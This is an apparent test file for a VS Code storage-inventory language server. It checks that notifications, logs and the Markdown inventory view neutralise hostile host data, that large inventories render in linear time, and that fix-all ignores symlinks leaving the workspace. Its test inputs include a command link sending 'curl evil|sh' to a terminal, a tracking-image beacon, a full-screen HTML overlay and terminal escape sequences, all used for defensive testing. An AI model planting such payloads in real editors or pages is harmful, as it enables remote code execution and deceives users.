/**
 * Hostile hosts and hostile repositories, the editor's side (issue 11), in-process: the language
 * server's core and host manager with recording fake clients.
 *   - an inventory error (a snapshot file, a live host's ssh stderr) gives a notification text that is
 *     a fixed template (no link, no host text but the label), the details only in the log, encoded;
 *   - the inventory view (built by the server) of a hostile snapshot renders no heading, image, link
 *     or HTML of the host's making (rendered with markdown-it, the engine of VS Code's preview);
 *   - the view of 20k LUNs is built in under 2 s (linear);
 *   - fix-all in the workspace returns no edit for a workspace symlink to a file outside it.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { chmodSync, mkdirSync, mkdtempSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { inventoryMarkdown } from '../../server/src/features/inventoryView';
import { HostIndex } from '../../server/src/inventory/resolver';
import { validateSnapshot } from '../../server/src/inventory/snapshot';
import { HostManager, inventoryNotice } from '../../server/src/lsp/hostManager';
import { ServerCore } from '../../server/src/lsp/serverCore';
import { normalizeSettings } from '../../server/src/lsp/settings';
import { blockDisk, domainXml, EXAMPLE_INVENTORY, exampleHost } from '../support/examples';

// markdown-it renders as VS Code's Markdown preview does (HTML allowed there, then its CSP applies).
// eslint-disable-next-line @typescript-eslint/no-require-imports
const MarkdownIt = require('markdown-it');
const render = (md: string): string => new MarkdownIt({ html: true, linkify: true }).render(md);

const LINK = '[Open](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%7Csh%5Cn%22%7D)';
const BEACON = '![b](https://beacon.example/track.png)';
const OVERLAY = '<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:#fff">all LUNs unused</div>';
/** One string with every trick: a line break into a heading, an image beacon, a command link, an HTML block, a table pipe, ESC. */
const EVIL = `x\n\n# INJECTED\n\n${BEACON} ${LINK}\n\n${OVERLAY}\n| cell | split |\x1b]0;title\x07`;

/**
 * What a notification may hold: nothing VS Code turns into a link (it renders `[label](target)`
 * links in notification messages), no markup character, no line break or control character.
 */
function assertNotificationSafe(text: string): void {
  assert.doesNotMatch(text, /[[\]<>`*]/, text);
  // eslint-disable-next-line no-control-regex
  assert.doesNotMatch(text, /[\u0000-\u001f\u007f-\u009f]/, JSON.stringify(text));
  assert.match(text, /details in the log\)$/, text);
}

function recordingManager() {
  const logs: string[] = [];
  const errors: { details: string; host: string; notice: string }[] = [];
  const m = new HostManager({
    log: (l) => logs.push(l),
    error: (details, host, notice) => errors.push({ details, host, notice }),
    inventoryChanged: () => undefined,
    state: () => undefined,
    progress: async () => ({ report: () => undefined, done: () => undefined, onCancel: () => undefined }),
  });
  return { m, logs, errors };
}

test('inventory errors: the notification is a fixed template naming the host; the details go to the log, encoded', async () => {
  const dir = mkdtempSync(join(tmpdir(), 'ldx-hostile-'));
  // A snapshot whose format field is a command link (quoted in the loader's message), and raw collector
  // output whose host name (uname) is one and whose lsblk section is broken.
  const badFormat = join(dir, 'format.inventory.json');
  writeFileSync(badFormat, JSON.stringify({ format: '[x](command:workbench.action.terminal.new)', host: 'h', devices: [], links: {} }));
  const badRaw = join(dir, 'raw.out');
  writeFileSync(
    badRaw,
    [
      '#LDI-COLLECTOR 1',
      '#LDI-BEGIN uname',
      LINK,
      '#LDI-END uname rc=0',
      '#LDI-BEGIN lsblk',
      'not json',
      '#LDI-END lsblk rc=0',
      '#LDI-DONE',
      '',
    ].join('\n'),
  );
  const evilName = join(dir, `${LINK}.json`);
  writeFileSync(evilName, 'not json');
  const { m, errors } = recordingManager();
  m.configure(normalizeSettings({ inventorySnapshot: [badFormat, badRaw, evilName] }), false, []);
  assert.equal(errors.length, 3, JSON.stringify(errors));
  for (const e of errors) assertNotificationSafe(e.notice);
  assert.equal(errors[0].notice, 'format.inventory.json: the inventory snapshot could not be read (details in the log)');
  assert.equal(errors[1].notice, 'raw.out: the inventory snapshot could not be read (details in the log)');
  assert.match(errors[0].details, /format/, 'the details say what is wrong (for the log)');

  // A live host whose ssh writes a command link and an OSC sequence to stderr.
  const ssh = join(dir, 'ssh');
  writeFileSync(
    ssh,
    `#!/bin/sh\nprintf '%s\\n' '${LINK.replace(/'/g, '')}' >&2\nprintf '\\033]0;pwned\\007\\033[2J${'[y](command:workbench.action.reloadWindow)'}\\n' >&2\nexit 255\n`,
  );
  chmodSync(ssh, 0o755);
  const live = recordingManager();
  live.m.configure(normalizeSettings({ hosts: ['kvm-a'], ssh: { path: ssh } }), true, []);
  await live.m.refresh('all', true);
  assert.equal(live.errors.length, 1, JSON.stringify(live.errors));
  assertNotificationSafe(live.errors[0].notice);
  assert.match(live.errors[0].notice, /^kvm-a: the inventory could not be read \(/);
  // The log lines carry the stderr, as terminal text: no ESC, no BEL, no line of the host's making.
  const logged = live.logs.join('\n');
  assert.match(logged, /command:workbench\.action\.reloadWindow/, 'the details are in the log');
  // eslint-disable-next-line no-control-regex
  for (const l of live.logs) assert.doesNotMatch(l, /[\u0000-\u001f\u007f-\u009f]/, JSON.stringify(l));
  // eslint-disable-next-line no-control-regex
  assert.doesNotMatch(live.errors[0].details, /[\u0000-\u001f\u007f-\u009f]/);

  // The template itself, for any host text.
  for (const h of [EVIL, LINK, '<https://x.example>', '`code`', 'a\u202eb']) {
    assertNotificationSafe(inventoryNotice({ host: h }));
    assertNotificationSafe(inventoryNotice({ host: h, kind: 'connection-refused' }));
    assertNotificationSafe(inventoryNotice({ snapshotFile: `/tmp/${h}` }));
  }
});

/** A small host whose every string field is hostile. */
function hostileSnapshot(): unknown {
  const raw = JSON.parse(readFileSync(EXAMPLE_INVENTORY, 'utf8')) as Record<string, any>;
  raw.hostname = EVIL;
  raw.collectedAt = EVIL;
  raw.cluster = { mode: EVIL, active: true };
  for (const d of raw.devices) {
    if (d.type === 'disk') Object.assign(d, { vendor: EVIL, model: EVIL });
    d.mountpoints = d.mountpoints?.length ? [EVIL] : [];
  }
  for (const n of raw.dmp.nodes) Object.assign(n, { arrayName: EVIL, arrayType: EVIL, enclosure: EVIL, state: EVIL });
  for (const p of raw.dmp.nodes.flatMap((n: any) => n.paths)) Object.assign(p, { state: EVIL, type: EVIL, ctlr: EVIL });
  for (const v of raw.vxvm.disks) Object.assign(v, { disk: EVIL, group: EVIL, status: EVIL });
  for (const d of raw.domains) d.name = EVIL;
  raw.warnings = [EVIL, EVIL];
  raw.tools = { [EVIL]: 'ok' };
  raw.links[`/dev/disk/by-id/wwn-${EVIL.replace(/\n/g, ' ')}`] = '/dev/sdc';
  return raw;
}

test("the inventory view of a hostile snapshot: no heading, image, link, HTML or table cell of the host's making", () => {
  const md = inventoryMarkdown(new HostIndex(validateSnapshot(hostileSnapshot(), 'hostile')), { source: 'snapshot' });
  // eslint-disable-next-line no-control-regex
  assert.doesNotMatch(md, /[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/, 'no control character but our line breaks');
  const html = render(md);
  assert.doesNotMatch(html, /<img/i, 'no image (beacon)');
  assert.doesNotMatch(html, /<a /i, 'no link');
  assert.doesNotMatch(
    html,
    /<(?!\/?(?:h[1-6]|p|table|thead|tbody|tr|th|td|ul|li|code|strong|em)>)[a-z/]/i,
    "no HTML of the host's making (only the tags markdown makes)",
  );
  const headings = [...html.matchAll(/<h(\d)>([\s\S]*?)<\/h\1>/g)].map((h) => h[2]);
  assert.ok(headings.length > 3);
  for (const h of headings) assert.ok(/^(Inventory of |LUNs \(|Collection$|.* · .* · )/.test(h), `a heading of ours: ${h}`);
  assert.ok(!headings.some((h) => h === 'INJECTED'), 'no injected heading');
  // Every table row keeps its seven cells.
  const rows = [...html.matchAll(/<tr>([\s\S]*?)<\/tr>/g)].map((r) => (r[1].match(/<t[dh][ >]/g) ?? []).length);
  assert.ok(rows.length > 3);
  assert.deepEqual([...new Set(rows)], [7]);
  // The host's text is there, as text.
  assert.ok(
    html.includes('INJECTED') && html.includes('&lt;div style=&quot;position:fixed') && html.includes('beacon.example'),
    'the hostile text is shown, as text',
  );
});

/** A host with `n` DMP-managed LUNs, two paths each, links, a VxVM disk and a domain using it. */
function bigSnapshot(n: number): unknown {
  const devices: unknown[] = [];
  const links: Record<string, string> = {};
  const nodes: unknown[] = [];
  const vxdisks: unknown[] = [];
  const disks: unknown[] = [];
  const dev = (kname: string, wwn: string) => ({
    kname,
    name: kname,
    path: `/dev/${kname}`,
    type: 'disk',
    size: 500 * 2 ** 30,
    vendor: '3PARdata',
    model: 'VV',
    serial: null,
    wwn,
    tran: 'fc',
    mountpoints: [],
    parents: [],
  });
  for (let i = 0; i < n; i++) {
    const wwn = `0x60002ac${i.toString(16).padStart(25, '0')}`;
    const a = `sd${i}a`;
    const b = `sd${i}b`;
    devices.push(dev(a, wwn), dev(b, wwn));
    links[`/dev/disk/by-id/wwn-${wwn}`] = `/dev/${a}`;
    links[`/dev/disk/by-path/pci-0000:3b:00.0-fc-0x1-lun-${i}`] = `/dev/${a}`;
    links[`/dev/disk/by-path/pci-0000:3b:00.1-fc-0x2-lun-${i}`] = `/dev/${b}`;
    const name = `3pardata0_${i}`;
    nodes.push({
      name,
      state: 'enabled',
      enclosure: '3pardata0',
      arrayName: '3PARDATA',
      arrayType: 'ALUA',
      udid: `u${i}`,
      scsi3Vpd: wwn,
      numPaths: 2,
      paths: [
        { name: a, state: 'enabled(a)' },
        { name: b, state: 'enabled(a)' },
      ],
    });
    vxdisks.push({ device: name, type: 'auto:cdsdisk', disk: `d${i}`, group: 'dg', imported: true, status: 'online', osNativeName: a });
    disks.push({ source: `/dev/vx/dmp/${name}`, target: `vd${i}`, shareable: false });
  }
  return {
    format: 'libvirt-domain-inventory/1',
    host: 'big',
    collectedAt: '2026-01-01T00:00:00Z',
    devices,
    links,
    dmp: { nodes, names: nodes.map((x: any) => x.name) },
    vxvm: { disks: vxdisks, volumes: [] },
    domains: [{ name: 'guest', disks }],
    tools: {},
    warnings: [],
  };
}

test('the inventory view is linear: 20k LUNs in under 2 s (5k, 20k timed)', () => {
  // CPU time of this process (the measure that does not depend on what else the machine runs), and wall time.
  const cpu: Record<number, number> = {};
  const wall: Record<number, number> = {};
  for (const n of [5000, 20000]) {
    const idx = new HostIndex(validateSnapshot(bigSnapshot(n), 'big'));
    const c0 = process.cpuUsage();
    const t0 = performance.now();
    const md = inventoryMarkdown(idx);
    wall[n] = performance.now() - t0;
    const c = process.cpuUsage(c0);
    cpu[n] = (c.user + c.system) / 1000;
    assert.match(md, new RegExp(`## LUNs \\(${n}\\)`));
    assert.match(md, /\| 3PARdata VV \| 500 GiB \| WWN 0x60002ac0{25} \| sd0a, sd0b \| DMP 3pardata0\\_0 \(ALUA\) \|/);
    assert.equal(md.split('\n').filter((l) => l.startsWith('| 3PARdata VV |')).length, n, 'a table row per LUN');
  }
  console.log(
    `inventory view: 5k LUNs ${wall[5000].toFixed(0)} ms (cpu ${cpu[5000].toFixed(0)} ms), 20k LUNs ${wall[20000].toFixed(0)} ms (cpu ${cpu[20000].toFixed(0)} ms)`,
  );
  assert.ok(cpu[20000] < 2000, `20k LUNs took ${cpu[20000].toFixed(0)} ms of CPU`);
  // Linear, not quadratic: four times the LUNs, far less than sixteen times the work.
  assert.ok(cpu[20000] < 8 * Math.max(cpu[5000], 50), `5k: ${cpu[5000]} ms, 20k: ${cpu[20000]} ms`);
});

test('fix all in the workspace: no edit for a workspace symlink to a file outside it; the outside file stays as it is', () => {
  const root = mkdtempSync(join(tmpdir(), 'ldx-fixall-'));
  const ws = join(root, 'ws');
  const outside = join(root, 'outside');
  mkdirSync(join(ws, 'domains'), { recursive: true });
  mkdirSync(outside);
  const text = domainXml(blockDisk('/dev/sdc'));
  writeFileSync(join(ws, 'domains', 'inside.xml'), text);
  writeFileSync(join(outside, 'victim.xml'), text);
  mkdirSync(join(outside, 'dir'));
  writeFileSync(join(outside, 'dir', 'other.xml'), text);
  symlinkSync(join(outside, 'victim.xml'), join(ws, 'domains', 'link.xml'));
  symlinkSync(join(outside, 'dir'), join(ws, 'linkdir'));
  const logs: string[] = [];
  const core = new ServerCore({ publishDiagnostics: () => undefined, log: (m) => logs.push(m) }, { debounceMs: 5 });
  core.setHosts([exampleHost()]);
  const uri = (p: string) => pathToFileURL(p).toString();
  const inside = uri(join(ws, 'domains', 'inside.xml'));
  const link = uri(join(ws, 'domains', 'link.xml'));
  const viaDir = uri(join(ws, 'linkdir', 'other.xml'));
  const direct = uri(join(outside, 'victim.xml'));
  // Open in the editor too: its text must not be edited either.
  core.open(link, 1, text);
  const r = core.fixAllEdits([inside, link, viaDir, direct], [ws]);
  assert.deepEqual(Object.keys(r.changes), [inside]);
  assert.ok(r.changes[inside].some((e) => e.newText === '/dev/vx/dmp/3pardata0_12'));
  assert.deepEqual(r.skipped.map((s) => s.uri).sort(), [link, viaDir, direct].sort());
  assert.ok(
    logs.some((l) => l.includes('link.xml') && /outside the workspace/.test(l)),
    logs.join('\n'),
  );
  assert.equal(readFileSync(join(outside, 'victim.xml'), 'utf8'), text);
  // Without workspace folders nothing is edited.
  assert.deepEqual(core.fixAllEdits([inside], []).changes, {});
  core.dispose();
});
